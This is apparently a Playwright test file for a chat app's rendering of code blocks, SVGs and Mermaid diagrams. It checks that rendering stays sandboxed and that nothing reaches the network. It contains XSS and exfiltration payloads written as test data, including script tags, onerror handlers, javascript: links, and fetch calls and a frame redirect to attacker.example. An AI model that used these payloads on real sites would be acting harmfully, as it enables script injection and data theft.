import { beforeAll, expect, test } from 'vitest';
import { injectDesktop } from './injected-desktop.ts';
import { ask, composer, findAccessibilityProblems, logIn, visit } from './journey-steps.ts';
import { openPage } from './open-page.ts';
import { type SharedApp, sharedAppWithCloud } from './start-app.ts';

const LONG_LINE = `total = ${'value + '.repeat(20)}0`;
const SVG = [
  '<svg width="120" height="60" onload="document.title = \'run\'">',
  '<script>document.title = "run"</script>',
  '<image href="https://example.org/pixel.png" width="1" height="1"/>',
  '<circle cx="30" cy="30" r="20" fill="green"/>',
  '</svg>',
].join('\n');
// Each of these has drawn, run or fetched something in some version of some program that shows diagrams.
const DIAGRAM = [
  "%%{init: {'securityLevel': 'loose', 'htmlLabels': true, 'themeCSS': '} * { background: url(https://attacker.example/theme.png) }'}}%%",
  'flowchart TD',
  '  A["<img src=https://attacker.example/label.png onerror=top.document.title=1>Begin"] --> B["<script>fetch(`https://attacker.example/?q=`)</script>End"]',
  '  B --> C[End]',
  '  click A href "javascript:top.location=1" "tip"',
  '  click B call fetch("https://attacker.example/call")',
].join('\n');
const PICTURED = 'flowchart TD\n  D@{ img: "https://attacker.example/shape.png", label: "Shape" }';
const ANSWER = [
  '```python',
  'def add(one, two):',
  '    # adds',
  '    return one + two',
  LONG_LINE,
  '```',
  '```svg',
  SVG,
  '```',
  '```no-such-language',
  'plain <b>text</b>',
  '```',
].join('\n');

const DIAGRAMS = [
  'flowchart TD\n  X[Begin] --> Y[End]',
  DIAGRAM,
  PICTURED,
  'flowchart TD\n  no --> ((diagram',
]
  .map((code) => `\`\`\`mermaid\n${code}\n\`\`\``)
  .join('\n\nAnother:\n\n');

let app: SharedApp;
beforeAll(async () => {
  ({ app } = await sharedAppWithCloud(({ body }) => (body.includes('two boxes') ? DIAGRAMS : ANSWER)));
});

test('code has the colours and the name of its language, wraps, and is saved as a file', async () => {
  const { page, screenshot, close } = await openPage();
  await logIn(page, app, await app.register());
  await ask(page, 'How do I add two numbers in Python?');
  const answer = page.getByRole('article', { name: 'Alcove' });
  await answer.getByText('Python', { exact: true }).waitFor();
  await answer.locator('[data-kind=keyword]', { hasText: 'def' }).waitFor();
  expect(await answer.locator('[data-kind=comment]').innerText()).toBe('# adds');
  expect(await answer.locator('pre').last().innerText()).toBe('plain <b>text</b>\n');
  const block = answer.locator('pre').first();
  const isCut = () => block.evaluate((pre) => pre.scrollWidth > pre.clientWidth);
  expect(await isCut()).toBe(true);
  await answer.getByRole('button', { name: 'Wrap long lines' }).first().click();
  await expect.poll(isCut).toBe(false);
  const saving = page.waitForEvent('download');
  await answer.getByRole('button', { name: 'Download code' }).first().click();
  expect((await saving).suggestedFilename()).toBe('code.py');
  await screenshot('code-blocks');
  expect(await findAccessibilityProblems(page)).toEqual([]);
  await close();
});

test('an SVG is drawn as a picture that runs no script and loads nothing, and shows its code on request', async () => {
  const { page, close } = await openPage();
  await logIn(page, app, await app.register());
  // A request to anywhere else fails the journey when it is closed.
  await ask(page, 'How do I draw a circle?');
  const drawing = page.getByRole('img', { name: 'Drawing' });
  await expect.poll(() => drawing.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(120);
  expect(await page.title()).not.toContain('run');
  await page.getByRole('button', { name: 'Show code' }).click();
  await page.getByText('<circle', { exact: false }).first().waitFor();
  await close();
});

test('a diagram is drawn where it can run nothing and reach nobody, and one that is none stays code', async () => {
  const { page, screenshot, expectTrouble, close } = await openPage();
  await logIn(page, app, await app.register());
  // What Mermaid itself would have let through, its page does not: the browser tells of it, and nothing goes out.
  for (const words of ['Content Security Policy', 'attacker.example']) expectTrouble(words);
  const gone: string[] = [];
  await page.context().route('https://attacker.example/**', (route) => {
    gone.push(route.request().url());
    return route.abort();
  });
  await ask(page, 'How do I draw two boxes?');
  const drawings = page.getByRole('img', { name: 'Drawing' });
  await expect.poll(() => drawings.count()).toBe(2);
  for (const drawing of await drawings.all()) {
    await expect
      .poll(() => drawing.evaluate((img) => (img as HTMLImageElement).naturalWidth))
      .toBeGreaterThan(40);
    const svg = decodeURIComponent((await drawing.getAttribute('src')) ?? '');
    expect(svg).toContain('Begin');
    // But as the words of a label, which a font breaks where it likes.
    const drawn = svg.replace(/(<tspan[^>]*>)[^<]*/g, '$1');
    expect(drawn).not.toMatch(/<script|onerror|foreignObject|javascript:|attacker/i);
  }
  await page.getByText('no --> ((diagram').waitFor();
  const frame = page.frames().find((one) => one.url().endsWith('/diagram.html'));
  expect(await frame?.evaluate(() => window.origin)).toBe('null');
  expect(gone).toEqual([]);
  await screenshot('diagram');
  expect(await findAccessibilityProblems(page)).toEqual([]);
  await close();
});

test('the page that draws diagrams has no network, no origin, and stays where it is', async () => {
  const { page, expectTrouble, close } = await openPage();
  for (const words of ['Content Security Policy', 'Blocked opening', 'Not allowed to']) expectTrouble(words);
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(request.url()));
  await page.goto(app.url);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.src = '/diagram.html';
    document.body.append(frame);
    return new Promise((resolve) => addEventListener('message', resolve, { once: true }));
  });
  const frame = page.frames().find((one) => one.url().endsWith('/diagram.html'));
  asked.length = 0;
  // What a hole in Mermaid would let a diagram do.
  const tried = await frame?.evaluate(async () => {
    const canRead = (read: () => unknown) => {
      try {
        return read() !== undefined;
      } catch {
        return false;
      }
    };
    const fetched = await fetch('/health').then(
      () => true,
      () => false,
    );
    const image = await new Promise((resolve) => {
      const picture = new Image();
      picture.onload = () => resolve(true);
      picture.onerror = () => resolve(false);
      picture.src = '/favicon.svg';
    });
    return {
      fetched,
      image,
      document: canRead(() => window.parent.document),
      storage: canRead(() => localStorage),
      opened: canRead(() => window.open('/') ?? undefined),
    };
  });
  expect(tried).toEqual({ fetched: false, image: false, document: false, storage: false, opened: false });
  await frame?.evaluate(() => {
    location.href = 'https://attacker.example/?q=what-the-diagram-says';
  });
  await expect.poll(() => page.frames().map((one) => one.url())).not.toContain(`${app.url}/diagram.html`);
  expect(asked.filter((url) => url.includes('attacker'))).toEqual([]);
  await close();
});

test('a long line of code widens neither the small window nor hides its buttons', async () => {
  const { page, screenshot, close } = await openPage({ width: 600, height: 440 });
  await injectDesktop(page);
  await logIn(page, app, await app.register());
  await visit(page, app, '#/quick');
  await ask(page, 'How do I add two numbers in Python?');
  expect(LONG_LINE.length).toBeGreaterThanOrEqual(120);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(600);
  for (const name of ['Hide', 'Open in Alcove', 'New question', 'Send']) {
    const box = await page.getByRole('button', { name, exact: true }).boundingBox();
    expect([name, (box?.x ?? 0) + (box?.width ?? 0) <= 600]).toEqual([name, true]);
  }
  await composer(page).waitFor();
  await screenshot('quick-ask-code');
  await close();
});
